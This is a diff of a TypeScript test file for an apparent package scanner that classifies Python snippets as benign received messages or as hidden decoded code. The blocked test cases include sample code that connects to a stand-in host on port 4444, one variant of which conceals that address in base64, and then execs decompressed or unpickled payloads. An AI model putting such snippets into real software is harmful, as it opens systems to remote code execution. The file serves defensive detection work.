@@ -1,6 +1,6 @@
 /**
  * Honest Python released from the Debian samples (bench/debian-python-verdicts.ts --all): a decoder's result
- * that is data, not hidden code (docs/package-analysis.md, "Decoding, read as data"). Each case: the real shape,
+ * that is a received message, not hidden code (docs/package-analysis.md, "A message received is not hidden code"). Each case: the real shape,
  * variants written here, and the malicious look-alike that must stay blocked. Parsed as text; nothing is run.
  */
 import { test } from 'uvu';
@@ -49,8 +49,8 @@ test('a compressed message received on a socket and evaluated is not hidden code
   // variants: a plain socket to localhost, a pipe end of multiprocessing, base64 over the wire
   const sock = "import socket, base64\ns = socket.create_connection(('localhost', 7000))\ndef step():\n    data = s.recv(65536)\n    return eval(base64.b64decode(data))\n";
   assert.not.ok((await level({ 'acmetools/link.py': sock })).high.includes('decoded_code_exec'));
-  const pipe = 'import zlib\ndef serve(conn):\n    while True:\n        code = zlib.decompress(conn.recv_bytes())\n        exec(code, {})\n';
-  assert.not.ok((await level({ 'acmetools/worker.py': pipe })).high.includes('decoded_code_exec'));
+  const ipc = "import zmq, zlib\nctx = zmq.Context()\ndef serve():\n    s = ctx.socket(zmq.PULL)\n    s.bind('ipc:///tmp/acme-engine')\n    exec(zlib.decompress(s.recv()), {})\n";
+  assert.not.ok((await level({ 'acmetools/worker.py': ipc })).high.includes('decoded_code_exec'));
 });
 
 test('decoded code from a literal, or received from a fixed foreign address, is still executed hidden code', async () => {
@@ -60,34 +60,14 @@ test('decoded code from a literal, or received from a fixed foreign address, is 
   const rev = "import socket, zlib\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\nexec(zlib.decompress(s.recv(99999)))\n";
   assert.is((await level({ 'acmetools/__init__.py': rev })).level, 'BLOCKED');
   // decoded from a literal the package carries, next to a received message
+  // a peer whose address the file builds at run time (decoded, read from a setting) may be anyone's
+  const built = "import socket, zlib, base64\nH = base64.b64decode('MTk4LjUxLjEwMC43').decode()\ns = socket.socket()\ns.connect((H, 4444))\nexec(zlib.decompress(s.recv(99999)))\n";
+  assert.is((await level({ 'acmetools/__init__.py': built })).level, 'BLOCKED');
   const lit = "import zlib, base64\ndef poll(sock):\n    sock.recv(10)\n    exec(zlib.decompress(base64.b64decode('eJwrKMrMK1EoLilKTM4GAB3yBF0=')))\n";
   assert.is((await level({ 'acmetools/poll.py': lit })).level, 'BLOCKED');
 });
 
-// The real shape (a netlink library): a team device's JSON configuration, parsed, then passed to the daemon.
-const TEAM = `import json, os, subprocess
-def manage_team(msg):
-    try:
-        config = msg.get_attr('IFLA_TEAM_CONFIG')
-        config = json.loads(config)
-    except AttributeError:
-        config = {'runner': {'name': 'activebackup'}}
-    config['device'] = msg.get_attr('IFLA_IFNAME')
-    with open(os.devnull, 'w') as fnull:
-        subprocess.check_call(['teamd', '-d', '-n', '-c', json.dumps(config)], stdout=fnull, stderr=fnull)
-`;
-
-test('a parsed JSON (or TOML, msgpack) document handed to a command is data, not decoded code', async () => {
-  const honest = await level({ 'acmetools/proxy.py': TEAM });
-  assert.not.ok(honest.high.includes('decoded_code_exec'), honest.high.join(' '));
-  assert.is.not(honest.level, 'BLOCKED');
-  const toml = "import tomllib, subprocess\ndef build(path):\n    cfg = tomllib.loads(open(path).read())\n    subprocess.run(cfg['tool']['cmd'], shell=True)\n";
-  assert.not.ok((await level({ 'acmetools/build.py': toml })).high.includes('decoded_code_exec'));
-  const simple = "import simplejson, os\ndef go(s):\n    args = simplejson.loads(s)\n    os.system(' '.join(args))\n";
-  assert.not.ok((await level({ 'acmetools/go.py': simple })).high.includes('decoded_code_exec'));
-});
-
-test('JSON that carries a base64 payload, and pickle / marshal, still decode', async () => {
+test('a JSON document decoded from base64, pickle and marshal still decode', async () => {
   const hidden = "import json, base64, subprocess\ncfg = json.loads(base64.b64decode('eyJjbWQiOiAiaWQifQ=='))\nsubprocess.check_call(cfg['cmd'], shell=True)\n";
   assert.is((await level({ 'acmetools/__init__.py': hidden })).level, 'BLOCKED');
   const pick = "import pickle, base64\nexec(pickle.loads(base64.b64decode('gASVCAAAAAAAAACMBGlkKCmULg==')))\n";
